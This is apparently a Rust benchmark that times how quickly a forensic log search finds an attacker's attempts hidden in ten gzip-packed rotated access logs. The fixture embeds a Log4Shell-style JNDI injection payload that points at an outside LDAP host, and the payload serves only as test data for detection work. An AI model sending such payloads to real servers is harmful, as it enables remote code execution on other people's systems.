//! How soon is evidence found in logs that were rotated and packed?

use std::cell::Cell;
use std::fs::File;
use std::io::Write as _;
use std::net::IpAddr;
use std::path::Path;
use std::time::{Duration, Instant, SystemTime};

use anyhow::{Result, ensure};
use flate2::{Compression, GzBuilder};
use tripoint_evidence::attempt;
use tripoint_evidence::locate::{How, Log};
use tripoint_evidence::scan::Options;
use tripoint_evidence::search::{Query, search};
use tripoint_evidence::stamp::Clock;
use tripoint_model::Timestamp;

use crate::Figure;

/// Generations behind the log itself.
const GENERATIONS: usize = 10;
/// Bytes of each, unpacked.
const BYTES: usize = 200_000_000;
const PEER: &str = "203.0.113.66";

/// Ten packed generations of an ordinary log; the two newest hold an attack of the peer.
pub fn run(ordinary: &str) -> Result<Vec<Figure>> {
    let folder = tempfile::tempdir()?;
    let attack = format!(
        "{PEER} - - [10/Oct/2025:13:55:36 +0000] \"GET /?x=${{jndi:ldap://203.0.113.7/a}} HTTP/1.1\" 200 12 \"-\" \"-\"\n"
    );
    let path = folder.path().join("access.log");
    std::fs::write(&path, "")?;
    for age in 1..=GENERATIONS {
        let told = if age <= 2 { attack.as_str() } else { "" };
        pack(&folder.path().join(format!("access.log.{age}.gz")), ordinary, told, age)?;
    }
    let log = Log { path, root: "/".into(), how: How::OpenFile, pattern: None };
    let mut figures = Vec::new();
    for (name, time_max) in [("within the bound of an investigation", TIME_MAX), ("to the end", Duration::MAX)] {
        let (took, found, lines) = searched(&log, time_max)?;
        ensure!(found > 0, "the attack was not found");
        figures.push(Figure::new(format!("ten packed generations, {name}"), took.as_secs_f64(), "s"));
        figures.push(Figure::count(format!("attempts found {name}"), found, "attempts"));
        figures.push(Figure::new(format!("lines read {name}"), lines as f64, "lines"));
    }
    Ok(figures)
}

/// The default of `evidence.time_max`.
const TIME_MAX: Duration = Duration::from_secs(8);

fn pack(path: &Path, ordinary: &str, told: &str, age: usize) -> Result<()> {
    let mut packed = GzBuilder::new().write(File::create(path)?, Compression::fast());
    let mut left = BYTES;
    while left > 0 {
        let part = &ordinary.as_bytes()[..left.min(ordinary.len())];
        packed.write_all(part)?;
        left -= part.len();
    }
    packed.write_all(b"\n")?;
    packed.write_all(told.as_bytes())?;
    let file = packed.finish()?;
    file.set_modified(SystemTime::now() - Duration::from_secs(3600 * age as u64))?;
    Ok(())
}

fn searched(log: &Log, time_max: Duration) -> Result<(Duration, usize, u64)> {
    let started = Instant::now();
    let over = Cell::new(false);
    let is_over = || {
        over.set(over.get() || started.elapsed() > time_max);
        over.get()
    };
    let peer: IpAddr = PEER.parse()?;
    let query = Query { peer, since: None, bytes_max: u64::MAX, is_over: &is_over };
    let clock = Clock::at(Timestamp::from_system(SystemTime::now()));
    let options = Options { format: None, clock, pack: attempt::pack(), is_proxy: &|_| false };
    let found = search(std::slice::from_ref(log), &query, &options);
    let lines = found.read.iter().map(|read| read.lines).sum();
    Ok((started.elapsed(), found.attempts.len(), lines))
}
